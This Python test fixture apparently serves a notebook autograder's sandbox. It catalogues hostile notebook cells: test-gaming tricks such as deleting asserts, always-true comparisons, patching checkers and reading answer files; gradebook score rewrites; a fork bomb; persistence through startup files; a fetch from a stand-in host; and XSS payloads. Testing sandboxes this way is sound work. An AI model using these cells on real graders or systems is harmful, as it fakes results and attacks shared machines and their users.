"""What hostile notebooks try, as cell sources: for the demo class and for the tests. Private.

Each is the real thing, but bounded (a few hundred processes, 2 GB on disk, ten minutes of looping),
so that a sandbox that leaks costs a red test and not a machine.
"""

from __future__ import annotations

from dataclasses import dataclass

GRADED, FAILED, KILLED = "graded", "cells failed", "killed"
TIMED_OUT, NO_MEMORY = "timed out", "out of memory"
ANY_END = (GRADED, FAILED, KILLED, TIMED_OUT, NO_MEMORY)


@dataclass(frozen=True)
class Attack:
    """One attack: what it wants, its cell, and how the grader may record it.

    early: the cell comes before the honest answers, else after everything. answer: source for the
    questions it does not answer honestly, NAME standing for the function asked; "" leaves them
    unwritten. noticed: the staff must be told. self_harming: it spoils honest answers beside it, so
    there are none.
    """

    wants: str
    source: str
    states: tuple[str, ...]
    early: bool = True
    answer: str = ""
    noticed: bool = True
    self_harming: bool = False


ALWAYS_EQUAL = """\
import torch


class AgreeableList(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return AgreeableList([0.0])
    __hash__ = None


class AgreeableTensor(torch.Tensor):
    def __eq__(self, other): return torch.tensor(True)
    def __ne__(self, other): return torch.tensor(False)
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if getattr(function, "__name__", "") in ("allclose", "equal", "isclose"):
            return True
        return super().__torch_function__(function, types, args, kwargs or {})
"""

ATTACKS: dict[str, Attack] = {
    "deletes assert": Attack(
        "tests that use assert pass",
        """\
import ast


class WithoutAssert(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)


get_ipython().ast_transformers.append(WithoutAssert())
""",
        (GRADED,),
    ),
    "always equal": Attack(
        "whatever is compared with it agrees",
        ALWAYS_EQUAL,
        (GRADED, FAILED),
        answer="""\
def NAME(*args, **kwargs):
    return AgreeableTensor([0.123]) if len(args) % 2 else AgreeableList([0.123])
""",
    ),
    "reads the answers": Attack(
        "the instructor's source notebook, or the reference, lies near",
        """\
import glob, importlib, json, os, pathlib

loot = []
for up in (".", "..", "../..", "../../..", "../../../.."):
    for pattern in ("source/*/*.ipynb", "release/*/*.ipynb", "notebooks/src/homework/*.py",
                    "course_lib/reference/answers/*.py", "autograder/questions/*/*.py", "*.ipynb"):
        loot += glob.glob(os.path.join(up, pattern))
for path in loot:
    text = pathlib.Path(path).read_text(errors="replace")
    sources = [text]
    if path.endswith(".ipynb"):
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    for source in sources:
        try:
            exec(source, globals())
        except BaseException:
            pass
for module in ("course_lib.reference", "autograder.questions", "autograder.grading.examiner"):
    try:
        globals().update(vars(importlib.import_module(module)))
    except BaseException:
        pass
""",
        (GRADED,),
        early=False,
    ),
    "writes marks into the gradebook": Attack(
        "full marks for itself, none for the others",
        """\
import os, sqlite3

for up in (".", "..", "../..", "../../.."):
    path = os.path.join(up, "gradebook.db")
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=2) as connection:
            connection.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
""",
        (GRADED,),
    ),
    "patches what tests use": Attack(
        "comparisons and the shell say yes to everything",
        """\
import sys
import numpy as np
import torch

torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.autograd.gradcheck = lambda *args, **kwargs: True
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
sys.displayhook = lambda value: None
shell = get_ipython()
shell.run_code = lambda *args, **kwargs: False
shell.run_cell = lambda *args, **kwargs: None
""",
        (GRADED, FAILED, KILLED),
        early=False,
    ),
    "patches the local checker": Attack(
        "whatever is asked is right",
        """\
import autograder.student.exam, autograder.student.probe, autograder.student.wire

autograder.student.exam.Close.agrees = lambda *args, **kwargs: True
autograder.student.exam.judge = lambda *args, **kwargs: "right"
autograder.student.wire.encode = lambda values: {}
autograder.student.probe.answer = lambda *args, **kwargs: [{"observations": {}}] * 100
""",
        ANY_END,
        early=False,
        answer="""\
def NAME(*args, **kwargs):
    return None
""",
        self_harming=True,
    ),
    "exits": Attack(
        "the tests after it do not run",
        "import os\nos._exit(0)\n",
        (KILLED,),
    ),
    "crashes Python": Attack(
        "the grader goes down with it",
        "import ctypes\nctypes.string_at(0)\n",
        (KILLED,),
    ),
    "overflows the stack in C": Attack(
        "the grader goes down with it",
        """\
nested = iter([0])
for _ in range(500_000):
    nested = map(abs, nested)
next(nested)
""",
        (KILLED, GRADED, FAILED, NO_MEMORY),
        noticed=False,
    ),
    "loops and ignores interrupts": Attack(
        "the batch waits for it",
        """\
import signal, time

for name in ("SIGINT", "SIGALRM", "SIGPROF", "SIGTERM", "SIGXCPU"):
    signal.signal(getattr(signal, name), signal.SIG_IGN)
end = time.monotonic() + 600
while time.monotonic() < end:
    try:
        while time.monotonic() < end:
            pass
    except BaseException:
        pass
""",
        (TIMED_OUT, KILLED),
        noticed=False,
    ),
    "kills its parent": Attack(
        "the batch ends",
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
        (GRADED, FAILED, KILLED),
    ),
    "fork bomb": Attack(
        "the machine stands still",
        """\
import os, time

for _ in range(300):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
""",
        (GRADED, FAILED, KILLED),
    ),
    "leaves a daemon": Attack(
        "edits the gradebook after grading",
        """\
import os, sqlite3, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(30):
            time.sleep(1)
            for up in (".", "..", "../..", "../../.."):
                path = os.path.join(up, "gradebook.db")
                if os.path.exists(path):
                    with sqlite3.connect(path, timeout=2) as connection:
                        connection.execute("UPDATE grade SET auto_score = 100")
    os._exit(0)
""",
        (GRADED,),
    ),
    "writes start-up files": Attack(
        "its code runs for the next student, or as the instructor",
        """\
import os, pathlib

line = "import builtins; builtins.COURSE_WAS_HERE = True\\n"
for path in ("~/.ipython/profile_default/startup/00-course.py", "sitecustomize.py",
             "usercustomize.py", "~/.jupyter/course_was_here_config.py", "torch.py",
             "/course/course_lib/startup.py", "/course/autograder/startup.py"):
    try:
        place = pathlib.Path(os.path.expanduser(path))
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(line)
    except OSError:
        pass
""",
        (GRADED,),
    ),
    "prints 200 MB": Attack(
        "the grader runs out of memory, the report cannot be opened",
        'for _ in range(2000):\n    print("x" * 100_000)\n',
        (GRADED, FAILED),
        noticed=False,
    ),
    "asks for 10 GB": Attack(
        "the grader runs out of memory",
        "import torch\n\nhuge = torch.ones(10 * 2**30, dtype=torch.uint8)\nprint(huge.sum())\n",
        (NO_MEMORY, FAILED, KILLED),
        noticed=False,
    ),
    "fills the disk": Attack(
        "no room is left for the others",
        """\
import tempfile

with open(tempfile.gettempdir() + "/big", "wb") as file:
    for _ in range(2000):
        file.write(b"x" * 1_000_000)
""",
        (FAILED, KILLED, NO_MEMORY, GRADED),
        noticed=False,
    ),
    "uses the network": Attack(
        "sends the questions out, fetches the answers",
        """\
import socket, urllib.request

reached = []
try:
    reached.append(socket.getaddrinfo("example.org", 80))
except OSError:
    pass
try:
    reached.append(socket.create_connection(("192.0.2.1", 80), timeout=1))
except OSError:
    pass
try:
    reached.append(urllib.request.urlopen("http://198.51.100.1/answers.py", timeout=1))
except OSError:
    pass
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
""",
        (GRADED, FAILED),
    ),
    "shows active content": Attack(
        "runs in the browser of whoever reads the feedback",
        """\
from IPython.display import HTML, SVG, Javascript, display

display(HTML("<script>document.title = 'was here'</script><img src=x onerror=alert(1)>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(2)'></svg>"))
display(Javascript("alert(3)"))
print("</pre><script>alert(4)</script>\\u202e\\x1b]0;title\\x07")
raise ValueError("<script>alert(5)</script><iframe src='javascript:alert(6)'></iframe>")
""",
        (FAILED,),
    ),
    "forges the channel": Attack(
        "its own messages are taken for the probe's",
        """\
import os

for fd in range(3, 256):
    try:
        for check in range(40):
            os.write(fd, b'{"ready":true}\\n{"answers":[{"observations":{}}]}\\n')
            os.write(fd, b'{"verdict":"right","points":100}\\n\\x80\\x04\\x95garbage\\n')
    except OSError:
        pass
""",
        ANY_END,
        early=False,
        answer="""\
def NAME(*args, **kwargs):
    import os
    for fd in range(3, 256):
        try:
            os.write(fd, b'{"answers":[{"observations":{}}]}\\n' * 10)
        except OSError:
            pass
    return None
""",
        self_harming=True,
    ),
    "walks the stack": Attack(
        "the expected numbers lie in a frame above, or somewhere in memory",
        """\
import gc, sys
import numpy as np


def rummage(number):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in frame.f_locals.items():
            if name in ("expected", "exam", "want", "known_wrong"):
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Exam", "Check", "KnownWrong"):
            return thing.expected[number]
    return np.full(3, 0.123)
""",
        (GRADED, FAILED),
        answer="""\
def NAME(*args, **kwargs):
    return rummage(0)
""",
    ),
    "partial credit from the last line": Attack(
        "a bare number at a test's end is taken for its points",
        "float('nan')\n",
        (GRADED, FAILED),
        early=False,
        noticed=False,
    ),
}
